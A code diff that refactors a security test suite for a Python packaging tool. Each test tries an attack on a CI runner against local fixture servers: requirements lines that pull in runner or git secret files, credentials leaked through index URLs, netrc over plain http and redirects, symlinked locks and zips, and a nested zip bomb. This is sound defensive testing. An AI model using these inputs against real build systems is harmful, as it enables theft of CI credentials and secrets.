@@ -5,8 +5,9 @@ import io
 import json
 import os
 import zipfile
-from collections.abc import Callable, Iterable
+from collections.abc import Callable, Iterable, Iterator, Mapping
 from dataclasses import replace
+from functools import partial
 from pathlib import Path
 from typing import NoReturn
 
@@ -18,7 +19,7 @@ from lambdabot.arm64.manifest import Unchecked
 from lambdabot.errors import PackagingError
 from lambdabot.requirements_file import Entry, Option
 from lambdabot.workspace import Workspace
-from tests.trust.arena import SETTINGS, Arena, Seen
+from tests.trust.arena import HANDLER, SETTINGS, Arena, Seen
 from tests.trust.lair import ELF_X86_64, lair, wheel
 from tests.trust.table import Attack, Door
 
@@ -45,19 +46,20 @@ def _alone(arena: Arena) -> None:
         arena.monkeypatch.delenv(name, raising=False)
 
 
-def _action(arena: Arena) -> Seen:
-    return arena.action()
-
-
-def _run(arena: Arena) -> Seen:
-    return arena.run()
-
-
 def _check(arena: Arena) -> Seen:
     return arena.command("arm64", "src/requirements.txt")
 
 
-DOORS: dict[Door, Callable[[Arena], Seen]] = {"action": _action, "command line": _run}
+Way = Callable[[Arena], Seen]
+NOBODY = "http://127.0.0.1:9"
+"""An endpoint that nobody serves: what is required is checked and packaged, and nothing is measured."""
+
+DOORS: dict[Door, Way] = {
+    "action": partial(Arena.action, endpoint=NOBODY),
+    "command line": partial(Arena.run, endpoint=NOBODY),
+}
+CHECKS: dict[Door, Way] = {"action": DOORS["action"], "command line": _check}
+MEASURES: dict[Door, Way] = {"action": Arena.action, "command line": Arena.run}
 
 
 def _asks_for(arena: Arena, text: str | bytes) -> None:
@@ -67,7 +69,7 @@ def _asks_for(arena: Arena, text: str | bytes) -> None:
     arena.write("src/requirements.txt", text)
 
 
-def _included(through: Callable[[Arena], Seen], line: str = "-r ../../runner/secret.txt") -> Attempt:
+def _included(through: Way, line: str = "-r ../../runner/secret.txt") -> Attempt:
     def attempt(arena: Arena) -> bool:
         arena.write("secret.txt", f"{SECRET}\n", at=arena.runner)
         arena.write(".git/secret.txt", f"{SECRET}\n")
@@ -115,7 +117,7 @@ def _linked_zip(arena: Arena) -> bool:
     return arena.command("arm64", "package.zip").shows(SECRET)
 
 
-def _left_by_a_step(door: Callable[[Arena], Seen]) -> Attempt:
+def _left_by_a_step(door: Way) -> Attempt:
     def attempt(arena: Arena) -> bool:
         arena.write("src/credentials.txt", f"password = {SECRET}\n")
         _asks_for(arena, "-r credentials.txt\n")
@@ -133,7 +135,7 @@ def _refused_with_it(entry: Entry) -> NoReturn:  # in the guard's place
     raise PackagingError(message)
 
 
-def _secret_in_an_address(door: Callable[[Arena], Seen]) -> Attempt:
+def _secret_in_an_address(door: Way) -> Attempt:
     """The installer expands variables, and gets those of private indexes."""
 
     def attempt(arena: Arena) -> bool:
@@ -166,29 +168,38 @@ def _named_by_the_manifest(indexes: Indexes) -> Sources:  # in the guard's place
 _SOURCES = environment.sources
 
 
-def _at_another_port(arena: Arena) -> bool:
-    with lair(arena) as evil:
-        _asks_for(arena, f"alpha @ {evil.url}/alpha-1.0-py3-none-any.whl\n")
-        arena.monkeypatch.setenv("UV_INDEX", f"private=https://ci:{SECRET}@127.0.0.1:9/simple")
-        _check(arena)
-        return evil.saw(SECRET)
+def _at_another_port(door: Way) -> Attempt:
+    def attempt(arena: Arena) -> bool:
+        with lair(arena) as evil:
+            _asks_for(arena, f"alpha @ {evil.url}/alpha-1.0-py3-none-any.whl\n")
+            arena.monkeypatch.setenv("UV_INDEX", f"private=https://ci:{SECRET}@127.0.0.1:9/simple")
+            door(arena)
+            return evil.saw(SECRET)
+
+    return attempt
 
 
-def _in_the_clear(arena: Arena) -> bool:
-    arena.write(".netrc", f"machine 127.0.0.1 login ci password {SECRET}\n", at=arena.runner)
-    with lair(arena, secure=False) as evil:
-        _asks_for(arena, f"--index-url {evil.url}\nalpha\n")
-        _check(arena)
-        return evil.saw(SECRET)
+def _in_the_clear(door: Way) -> Attempt:
+    def attempt(arena: Arena) -> bool:
+        arena.write(".netrc", f"machine 127.0.0.1 login ci password {SECRET}\n", at=arena.runner)
+        with lair(arena, secure=False) as evil:
+            _asks_for(arena, f"--index-url {evil.url}\nalpha\n")
+            door(arena)
+            return evil.saw(SECRET)
+
+    return attempt
 
 
-def _sent_on(arena: Arena) -> bool:
-    with lair(arena) as evil, lair(arena) as private:
-        _asks_for(arena, f"alpha @ {private.url}/moved/alpha-1.0-py3-none-any.whl\n")
-        arena.monkeypatch.setenv("UV_INDEX", private.url.replace("://", f"://ci:{SECRET}@"))
-        private.moved = f"{evil.url}/alpha-1.0-py3-none-any.whl"
-        _check(arena)
-        return evil.saw(SECRET)
+def _sent_on(door: Way) -> Attempt:
+    def attempt(arena: Arena) -> bool:
+        with lair(arena) as evil, lair(arena) as private:
+            _asks_for(arena, f"alpha @ {private.url}/moved/alpha-1.0-py3-none-any.whl\n")
+            arena.monkeypatch.setenv("UV_INDEX", private.url.replace("://", f"://ci:{SECRET}@"))
+            private.moved = f"{evil.url}/alpha-1.0-py3-none-any.whl"
+            door(arena)
+            return evil.saw(SECRET)
+
+    return attempt
 
 
 def _poisoned(arena: Arena) -> bool:
@@ -232,21 +243,34 @@ def _wherever_it_is_told(named: Path | None, workspaces: Iterable[Workspace]) ->
     return named
 
 
-def _bomb(arena: Arena) -> bool:
+def _bomb(door: Way) -> Attempt:
     """Pack into jars what the zip itself could not hold."""
-    _alone(arena)
-    arena.monkeypatch.setattr(archive, "_UNZIPPED_LIMIT", 100_000)
-    jar, package = io.BytesIO(), io.BytesIO()
-    with zipfile.ZipFile(jar, "w", zipfile.ZIP_DEFLATED) as inner:
-        inner.writestr("zeros", bytes(90_000))
-    with zipfile.ZipFile(package, "w") as outer:
-        for number in range(2):
-            outer.writestr(f"{number}.jar", jar.getvalue())
-    arena.write("package.zip", package.getvalue())
-    return "[ready]" in arena.command("arm64", "package.zip").log
+
+    def attempt(arena: Arena) -> bool:
+        _alone(arena)
+        arena.monkeypatch.setattr(archive, "_UNZIPPED_LIMIT", 100_000)
+        jar, package = io.BytesIO(), io.BytesIO()
+        with zipfile.ZipFile(jar, "w", zipfile.ZIP_DEFLATED) as inner:
+            inner.writestr("zeros", bytes(90_000))
+        with zipfile.ZipFile(package, "w") as outer:
+            outer.writestr("app.py", HANDLER)
+            for number in range(2):
+                outer.writestr(f"{number}.jar", jar.getvalue())
+        arena.write("package.zip", package.getvalue())
+        if door is _check:
+            return "[ready]" in arena.command("arm64", "package.zip").log
+        arena.write("lambdabot.yml", BOTH.replace("source: src", "source: package.zip"))
+        (function,) = json.loads(door(arena).files["report.json"])["functions"]
+        return function["arm64"]["verdict"] == "ready"
+
+    return attempt
 
 
-def _links_of_the_runner(value: str) -> Attempt:
+def nothing(*_: object) -> None:  # in a guard's place
+    pass
+
+
+def _links_of_the_runner(value: str, door: Way) -> Attempt:
     """Take a wheel that lies on the runner into the function, which tells what is in it."""
 
     def attempt(arena: Arena) -> bool:
@@ -255,7 +279,7 @@ def _links_of_the_runner(value: str) -> Attempt:
         _asks_for(arena, f"--no-index\n--find-links {value.format(arena.runner)}\ninternal\n")
         arena.write("lambdabot.yml", SETTINGS)
         arena.write("src/app.py", "import internal\ndef handler(*_):\n    raise SystemError(internal.SECRET)\n")
-        return arena.run().shows(SECRET)
+        return door(arena).shows(SECRET)
 
     return attempt
 
@@ -270,15 +294,50 @@ class _AnyAddress:  # in the guard's place
         return True
 
 
-def _row(name: str, door: Door, attempt: Attempt, guard: str, without: object, *, promise: str = FILES) -> Attack:
-    return Attack(name=name, promise=promise, door=door, attempt=attempt, guard=guard, without=without)
+LOCKS = "a run checks requirements and packages, and reads no lock"
+NAMED = "a run is named no file to check"
+KEEPS = "no input of the action names a cache"
+
+NO_WHEELS = ("lambdabot.packaging.requirements:_folder", _any_folder)
+NO_FILES = ("lambdabot.packaging.requirements:_WEB", _AnyAddress)
+
+
+def _row(
+    name: str,
+    door: Door,
+    attempt: Attempt,
+    guard: str = HOLDS,
+    without: object = anywhere,
+    *,
+    promise: str = FILES,
+    only: str = "",
+) -> Attack:
+    return Attack(name=name, promise=promise, door=door, attempt=attempt, guard=guard, without=without, only=only)
+
+
+def _rows(
+    name: str,
+    attempt: Callable[[Way], Attempt],
+    guard: str = HOLDS,
+    without: object = anywhere,
+    *,
+    ways: Mapping[Door, Way] = DOORS,
+    promise: str = FILES,
+) -> Iterator[Attack]:
+    for door, way in ways.items():
+        yield _row(name, door, attempt(way), guard, without, promise=promise)
 
 
 ATTACKS = [
-    *(_row("includes a file of the runner", door, _included(run), HOLDS, anywhere) for door, run in DOORS.items()),
-    _row("includes a file of the runner that is checked for ARM64", "command line", _included(_check), HOLDS, anywhere),
-    _row("includes a file of git's own", "command line", _included(_check, "-r ../.git/secret.txt"), HOLDS, anywhere),
-    _row("has a lock that is a link", "command line", _linked("poetry.lock", LOCK), HOLDS, anywhere),
+    *_rows("includes a file of the runner", _included),
+    *_rows("includes a file of git's own", partial(_included, line="-r ../.git/secret.txt"), ways=CHECKS),
+    _row(
+        "includes a file of the runner that is checked for ARM64",
+        "command line",
+        _included(_check),
+        only="a run reads the file for its package as well, which is another row",
+    ),
+    _row("has a lock that is a link", "command line", _linked("poetry.lock", LOCK), only=LOCKS),
     _row(
         "has a pyproject.toml beside its lock that is a link",
         "command line",
@@ -287,62 +346,50 @@ ATTACKS = [
             f'[project]\nname = "x"\ndependencies = ["{SECRET}"]\n',
             ("deps/poetry.lock", "package = []"),
         ),
-        HOLDS,
-        anywhere,
+        only=LOCKS,
     ),
-    _row("has a Pipfile.lock that is a link", "command line", _linked("Pipfile.lock", PIPFILE_LOCK), HOLDS, anywhere),
+    _row("has a Pipfile.lock that is a link", "command line", _linked("Pipfile.lock", PIPFILE_LOCK), only=LOCKS),
     _row(
         "lets the checked file itself be a link",
         "command line",
         _named_link,
         "lambdabot.workspace:Workspace.around",
         staticmethod(_around_what_it_leads_to),
+        only=NAMED,
     ),
-    _row("lets a zip be a link", "command line", _linked_zip, HOLDS, anywhere),
-    _row(
-        "packs a bomb into a bomb", "command line", _bomb, "lambdabot.arm64.files.archive:_Bounds.take", lambda *_: None
-    ),
-    _row(
+    _row("lets a zip be a link", "command line", _linked_zip, only=NAMED),
+    *_rows("packs a bomb into a bomb", _bomb, "lambdabot.arm64.files.archive:_Bounds.take", nothing, ways=CHECKS),
+    *_rows(
         "takes the runner's wheels into the function",
-        "command line",
-        _links_of_the_runner("../../runner/wheels"),
-        "lambdabot.packaging.requirements:_folder",
-        _any_folder,
+        partial(_links_of_the_runner, "../../runner/wheels"),
+        *NO_WHEELS,
+        ways=MEASURES,
     ),
-    _row(
+    *_rows(
         "takes the runner's wheels by their address",
-        "command line",
-        _links_of_the_runner("file://{}/wheels"),
-        "lambdabot.packaging.requirements:_WEB",
-        _AnyAddress,
+        partial(_links_of_the_runner, "file://{}/wheels"),
+        *NO_FILES,
+        ways=MEASURES,
     ),
-    _row(
+    *_rows(
         "includes credentials that an earlier step left, for ARM64",
-        "command line",
-        _left_by_a_step(_check),
+        _left_by_a_step,
         "lambdabot.arm64.formats.requirements_txt:parse_requirement",
         _quoted,
+        ways=CHECKS,
     ),
-    *(
-        _row(
-            "includes credentials that an earlier step left, for the package",
-            door,
-            _left_by_a_step(run),
-            "lambdabot.packaging.requirements:_unnamed",
-            _refused_with_it,
-        )
-        for door, run in DOORS.items()
+    *_rows(
+        "includes credentials that an earlier step left, for the package",
+        _left_by_a_step,
+        "lambdabot.packaging.requirements:_unnamed",
+        _refused_with_it,
     ),
-    *(
-        _row(
-            "puts a variable into the address of its index",
-            door,
-            _secret_in_an_address(run),
-            "lambdabot.requirements_file:has_variable",
-            lambda _: False,
-            promise=CREDENTIALS,
-        )
-        for door, run in DOORS.items()
+    *_rows(
+        "puts a variable into the address of its index",
+        _secret_in_an_address,
+        "lambdabot.requirements_file:has_variable",
+        lambda _: False,
+        promise=CREDENTIALS,
     ),
     _row(
         "gives its own index the private one's name",
@@ -351,29 +398,30 @@ ATTACKS = [
         "lambdabot.arm64.check:sources",
         _named_by_the_manifest,
         promise=CREDENTIALS,
+        only="a run checks requirements and packages, and reads no pyproject.toml",
     ),
-    _row(
+    *_rows(
         "listens at another port of the private index's host",
-        "command line",
         _at_another_port,
         "lambdabot.arm64.indexes.transport:_origin",
         lambda parts: (parts.scheme, parts.hostname),
+        ways=CHECKS,
         promise=CREDENTIALS,
     ),
-    _row(
+    *_rows(
         "names a host of netrc over plain http",
-        "command line",
         _in_the_clear,
         "lambdabot.arm64.indexes.transport:Transport._may_log_in",
         lambda *_: True,
+        ways=CHECKS,
         promise=CREDENTIALS,
     ),
-    _row(
+    *_rows(
         "is sent on from the private index to its own",
-        "command line",
         _sent_on,
         "requests:Session.should_strip_auth",
         lambda *_: False,
+        ways=CHECKS,
         promise=CREDENTIALS,
     ),
     _row(
@@ -383,6 +431,7 @@ ATTACKS = [
         "lambdabot.arm64.files.reader:_key",
         _by_its_hash,
         promise=KEPT,
+        only=LOCKS,
     ),
     _row(
         "commits a cache",
@@ -391,5 +440,6 @@ ATTACKS = [
         "lambdabot.commands.arm64:_cache_dir",
         _wherever_it_is_told,
         promise=KEPT,
+        only=KEEPS,
     ),
 ]
